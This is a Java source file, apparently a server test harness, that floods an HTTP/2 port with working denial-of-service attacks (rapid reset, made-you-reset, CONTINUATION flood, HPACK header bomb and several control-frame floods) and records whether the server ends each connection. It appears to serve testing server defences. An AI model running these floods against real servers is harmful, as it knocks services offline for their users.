import java.io.BufferedReader;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStreamReader;
import java.net.SocketTimeoutException;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.concurrent.atomic.AtomicLong;

/**
 * Attacks a server over HTTP/2, on one connection after the other, each of which the server has to
 * end.
 *
 * Arguments: port, name of the attack, number of connections at the same time. Reads from its
 * input: go, stop, and end. After stop, prints a line of figures.
 */
final class Flood {

	/** What is written at once. */
	static final int BATCH = 100;

	/** Far beyond what any server bears. */
	static final int MAX_BATCHES = 2000;

	/** Of a rapid reset: as much as arrives before the server can have said no. */
	static final int RESET_BATCHES = 10;

	static final int ENHANCE_YOUR_CALM = 11;

	private final int port;

	private final String attack;

	private final AtomicLong sent = new AtomicLong();

	private final AtomicInteger connections = new AtomicInteger();

	private final AtomicInteger unended = new AtomicInteger();

	private final AtomicInteger resetByServer = new AtomicInteger();

	private final Map<String, Integer> ends = new TreeMap<>();

	private boolean going;

	private boolean over;

	private int busy;

	private Flood(int port, String attack) {
		this.port = port;
		this.attack = attack;
	}

	public static void main(String[] args) throws Exception {
		Flood flood = new Flood(Integer.parseInt(args[0]), args[1]);
		List<Thread> threads = new ArrayList<>();
		for (int i = 0; i < Integer.parseInt(args[2]); i++) {
			threads.add(new Thread(flood::run));
		}
		threads.forEach(Thread::start);
		BufferedReader in = new BufferedReader(new InputStreamReader(System.in));
		while (true) {
			String command = in.readLine();
			if (command == null || command.equals("end")) {
				flood.end();
				return;
			}
			flood.command(command);
			if (command.equals("stop")) {
				flood.report();
			}
		}
	}

	private synchronized void command(String command) throws InterruptedException {
		this.going = command.equals("go");
		notifyAll();
		while (!this.going && this.busy > 0) {
			wait();
		}
	}

	private synchronized void end() {
		this.over = true;
		notifyAll();
	}

	private synchronized void report() {
		System.out.printf("%d %d %d %d %s%n", this.sent.get(), this.connections.get(), this.unended.get(),
				this.resetByServer.get(), this.ends);
	}

	private synchronized boolean begin() throws InterruptedException {
		while (!this.going && !this.over) {
			wait();
		}
		this.busy++;
		return !this.over;
	}

	private synchronized void ended(String how) {
		this.ends.merge(how, 1, Integer::sum);
		this.busy--;
		notifyAll();
	}

	private void run() {
		try {
			while (begin()) {
				ended(attack());
			}
		}
		catch (InterruptedException ex) {
			throw new IllegalStateException(ex);
		}
	}

	/** Attack on a connection, and return how the server has ended it. */
	private String attack() throws InterruptedException {
		try (Http2Connection connection = new Http2Connection(this.port)) {
			this.connections.incrementAndGet();
			Ending ending = new Ending(connection);
			ending.start();
			int batches = this.attack.equals("reset") ? RESET_BATCHES : MAX_BATCHES;
			try {
				for (int i = 0; i < batches && ending.isAlive(); i++) {
					connection.write(batch(connection, i == 0));
					this.sent.addAndGet(BATCH);
				}
			}
			catch (IOException ex) {
				// Told by the reader
			}
			ending.join();
			return ending.how;
		}
		catch (IOException ex) {
			return "refused";
		}
	}

	private byte[] batch(Http2Connection connection, boolean first) {
		ByteArrayOutputStream out = new ByteArrayOutputStream();
		for (int i = 0; i < BATCH; i++) {
			append(out, connection, first && i == 0);
		}
		return out.toByteArray();
	}

	private void append(ByteArrayOutputStream out, Http2Connection connection, boolean first) {
		switch (this.attack) {
			case "reset" -> {
				// Handlers that answer at once, later, and on a thread of their own
				String[] paths = { "/hello", "/slow", "/files/" };
				int stream = request(out, connection, paths[(connection.hashCode() + out.size()) % paths.length]);
				Http2Connection.frame(out, Http2Connection.RST_STREAM, 0, stream, 0, 0, 0, 8);
			}
			case "made-you-reset" -> {
				int stream = request(out, connection, "/slow");
				Http2Connection.frame(out, Http2Connection.WINDOW_UPDATE, 0, stream, 0, 0, 0, 0);
			}
			case "continuation", "empty-continuation" -> {
				if (first) {
					Http2Connection.frame(out, Http2Connection.HEADERS, Http2Connection.END_STREAM, connection.nextStream(),
							Http2Connection.get("/hello"));
				}
				Http2Connection.frame(out, Http2Connection.CONTINUATION, 0, 1,
						this.attack.equals("continuation") ? field(100) : new byte[0]);
			}
			case "bomb" -> {
				if (first) {
					bomb(out, connection.nextStream(), field(4000));
				}
				// The first entry of the dynamic table, again and again
				byte[] references = new byte[10_000];
				Arrays.fill(references, (byte) (0x80 | 62));
				bomb(out, connection.nextStream(), references);
			}
			case "settings" -> Http2Connection.frame(out, Http2Connection.SETTINGS, 0, 0);
			case "ping" -> Http2Connection.frame(out, Http2Connection.PING, 0, 0, new byte[8]);
			case "priority" -> Http2Connection.frame(out, Http2Connection.PRIORITY, 0, 1, 0, 0, 0, 0, 16);
			case "window" -> Http2Connection.frame(out, Http2Connection.WINDOW_UPDATE, 0, 0, 0, 0, 0, 1);
			case "unknown" -> Http2Connection.frame(out, 0xAB, 0, 0);
			case "empty-data" -> {
				if (first) {
					Http2Connection.frame(out, Http2Connection.HEADERS, Http2Connection.END_HEADERS, connection.nextStream(),
							post());
				}
				Http2Connection.frame(out, Http2Connection.DATA, 0, 1);
			}
			default -> throw new IllegalArgumentException(this.attack);
		}
	}

	private static int request(ByteArrayOutputStream out, Http2Connection connection, String path) {
		int stream = connection.nextStream();
		Http2Connection.frame(out, Http2Connection.HEADERS, Http2Connection.END_HEADERS | Http2Connection.END_STREAM, stream,
				Http2Connection.get(path));
		return stream;
	}

	private static void bomb(ByteArrayOutputStream out, int stream, byte[] fields) {
		ByteArrayOutputStream block = new ByteArrayOutputStream();
		block.writeBytes(Http2Connection.get("/hello"));
		block.writeBytes(fields);
		Http2Connection.frame(out, Http2Connection.HEADERS, Http2Connection.END_HEADERS | Http2Connection.END_STREAM, stream,
				block.toByteArray());
	}

	private static byte[] post() {
		byte[] block = Http2Connection.get("/upload");
		block[0] = (byte) 0x83;
		return block;
	}

	/** A field that a dynamic table keeps, with a value of so many bytes. */
	private static byte[] field(int length) {
		ByteArrayOutputStream field = new ByteArrayOutputStream();
		field.write(0x40);
		field.write(1);
		field.write('x');
		if (length < 127) {
			field.write(length);
		}
		else {
			field.write(127);
			field.write((length - 127) & 0x7F | 0x80);
			field.write((length - 127) >> 7);
		}
		field.writeBytes("a".repeat(length).getBytes(StandardCharsets.US_ASCII));
		return field.toByteArray();
	}

	/** Reads until the server has ended the connection. */
	private final class Ending extends Thread {

		private final Http2Connection connection;

		private volatile String how = "closed";

		Ending(Http2Connection connection) {
			this.connection = connection;
			setDaemon(true);
		}

		@Override
		public void run() {
			try {
				while (true) {
					Http2Connection.Frame frame = this.connection.read();
					if (frame.type == Http2Connection.GOAWAY) {
						this.how = "GOAWAY with code " + frame.code();
					}
					if (frame.type == Http2Connection.RST_STREAM) {
						Flood.this.resetByServer.incrementAndGet();
					}
				}
			}
			catch (SocketTimeoutException ex) {
				this.how = "not ended";
				Flood.this.unended.incrementAndGet();
			}
			catch (IOException ex) {
				// Ended
			}
		}

	}

}
